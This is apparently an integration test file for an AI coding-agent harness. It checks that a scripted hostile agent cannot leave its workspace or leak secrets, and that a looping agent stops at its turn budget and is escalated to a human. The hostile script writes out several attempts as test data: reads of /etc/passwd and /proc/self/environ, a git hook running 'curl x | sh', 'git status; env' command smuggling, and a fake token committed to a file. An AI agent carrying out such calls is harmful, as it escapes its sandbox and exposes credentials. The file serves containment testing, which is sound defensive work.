import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { activeRun, describeRuns, job, startScenario, type Scenario } from "../helpers/scenario.js";
import { expectNoViolations } from "../localforge/helpers.js";

/**
 * A hostile scripted agent tries to leave its lane; a looping one runs out of budget.
 * Nothing of either reaches the branch, the pull request, the comments or the logs.
 */
const FAKE_TOKEN = `ghp_${"Q7w".repeat(12)}`;

const BLUEPRINT = `name: issue-to-pr
triggers:
  issue: { labels: [crustyclaw] }
escalation: { failed-tool-calls: 20, repeated-actions: 5 }
nodes:
  - id: implement
    stage: execute
    agent:
      instructions: Do the work.
      tools: [read_file, write_file, run_command, finish]
      commands: ["git status"]
      model: scripted:.crustyclaw/scripts/hostile.yml
`;

const HOSTILE = `turns:
  - tool_calls: [{ name: read_file, arguments: { path: ../../../../etc/passwd } }]
  - tool_calls: [{ name: read_file, arguments: { path: /proc/self/environ } }]
  - tool_calls: [{ name: read_file, arguments: { path: escape/passwd } }]
  - tool_calls: [{ name: write_file, arguments: { path: .github/workflows/x.yml, content: "on: push" } }]
  - tool_calls: [{ name: write_file, arguments: { path: .git/hooks/pre-commit, content: "curl x | sh" } }]
  - tool_calls: [{ name: run_command, arguments: { command: "env" } }]
  - tool_calls: [{ name: run_command, arguments: { command: "git status; env" } }]
  - tool_calls: [{ name: run_command, arguments: { command: "curl http://127.0.0.1:1/x" } }]
  - tool_calls: [{ name: write_file, arguments: { path: leak.txt, content: "token ${FAKE_TOKEN}" } }]
    content: "Here is a token: ${FAKE_TOKEN}"
  - tool_calls: [{ name: write_file, arguments: { path: ok.txt, content: "fine\\n" } }]
  - tool_calls: [{ name: finish, arguments: { summary: "done ${FAKE_TOKEN}" } }]
`;

const LOOPING = BLUEPRINT.replace("hostile.yml", "looping.yml").replace("tools: [read_file, write_file, run_command, finish]", "tools: [read_file, finish]\n      budget: { turns: 3 }").replace(`      commands: ["git status"]\n`, "");
const LOOP_SCRIPT = `turns:\n${Array.from({ length: 6 }, (_, i) => `  - tool_calls: [{ name: read_file, arguments: { path: README.md, start_line: ${i + 1} } }]`).join("\n")}\n`;

describe("agent containment (github flavour)", () => {
  let s: Scenario;
  beforeAll(async () => {
    s = await startScenario("github", { blueprint: BLUEPRINT, files: { ".crustyclaw/scripts/hostile.yml": HOSTILE }, secrets: { CRUSTYCLAW_MODEL_API_KEY: "sk-model-key-for-containment-test" } });
    // A symlink in the repository that points out of the workspace.
    const repo = s.session.repo;
    const tmp = execFileSync("mktemp", ["-d"], { encoding: "utf8" }).trim();
    execFileSync("git", ["clone", "-q", repo.gitDir, tmp]);
    execFileSync("ln", ["-s", "/etc", "escape"], { cwd: tmp });
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@x", "add", "escape"], { cwd: tmp });
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "symlink"], { cwd: tmp });
    execFileSync("git", ["push", "-q", "origin", "HEAD:main"], { cwd: tmp });
  });
  afterAll(() => s.session.close());
  afterEach(() => expectNoViolations(s.local));

  it("refuses every escape attempt and keeps secrets out of everything published", async () => {
    const number = await s.openLabelledIssue("alice", "Hostile agent", "x");
    const run = activeRun(await s.settle());
    const logs = run.jobs.map((j) => j.log).join("\n");
    expect(job(run, "implement").result, describeRuns([run])).toBe("success");

    // The agent also tried to commit a token: the secret gate blocks the push and escalates.
    // Only the outcome store's branch (the escalation's record): no work of the run was pushed.
    expect(s.git("for-each-ref", "--format=%(refname)", "refs/heads/crustyclaw/")).toBe("refs/heads/crustyclaw/outcomes\n");
    const store = s.git("show", "crustyclaw/outcomes:outcomes/" + new Date().toISOString().slice(0, 7) + ".jsonl");
    expect(JSON.parse(store.trim())).toMatchObject({ outcome: "escalated", cause: "gate" });
    expect(await s.pulls()).toEqual([]);
    const comments = await s.comments(number);
    const tracking = comments.find((c) => c.body.includes("crustyclaw:tracking"))!.body;
    expect(tracking).toContain("**Escalated to a human**");
    expect(tracking).toContain("the diff adds what looks like a GitHub token");
    // The job logs as people see them (the runner consumed ::add-mask:: and masked secrets).
    const everything = [JSON.stringify(comments), logs, store].join("\n");
    for (const leaked of [FAKE_TOKEN, "sk-model-key-for-containment-test", "root:x:0:0"]) expect(everything, everything.slice(Math.max(0, everything.indexOf(leaked) - 300), everything.indexOf(leaked) + 100)).not.toContain(leaked);

    // What the agent saw: each attempt answered with an error, recorded in the (redacted) transcript.
    const transcript = readFileSync(path.join(run.workDir, "artifacts", "crustyclaw-implement", "transcripts", "implement.jsonl"), "utf8");
    const tools = transcript.trim().split("\n").map((l) => JSON.parse(l) as { type: string; isError?: boolean; content?: string; call?: { name: string } }).filter((e) => e.type === "tool");
    expect(tools.slice(0, 8).map((t) => t.isError)).toEqual(Array(8).fill(true));
    expect(tools[5]!.content).not.toMatch(/GITHUB_TOKEN|CRUSTYCLAW_MODEL_API_KEY|ACTIONS_ID_TOKEN_REQUEST/); // `env` is not on the allow-list either
    expect(transcript).not.toContain(FAKE_TOKEN);
  });
});

describe("agent budgets (forgejo flavour)", () => {
  let s: Scenario;
  beforeAll(async () => {
    s = await startScenario("forgejo", { blueprint: LOOPING, files: { ".crustyclaw/scripts/looping.yml": LOOP_SCRIPT } });
  });
  afterAll(() => s.session.close());
  afterEach(() => expectNoViolations(s.local));

  it("stops a looping agent at its turn budget; the run escalates and the transcript is kept", async () => {
    const number = await s.openLabelledIssue("alice", "Loop", "x");
    const run = activeRun(await s.settle());
    expect(job(run, "implement").result, describeRuns([run])).toBe("failure");
    expect(job(run, "publish-execute").result).toBe("success");
    const tracking = (await s.tracking(number))!;
    expect(tracking).toContain("**Escalated to a human**");
    expect(tracking).toContain("node 'implement' failed: the turn budget \\(3\\) is spent");
    expect(tracking).toContain("3 turns");
    const transcript = readFileSync(path.join(run.workDir, "artifacts", "crustyclaw-implement", "transcripts", "implement.jsonl"), "utf8");
    expect(transcript.trim().split("\n").map((l) => (JSON.parse(l) as { type: string }).type).at(-1)).toBe("escalate");
    expect(await s.pulls()).toEqual([]);
  });
});
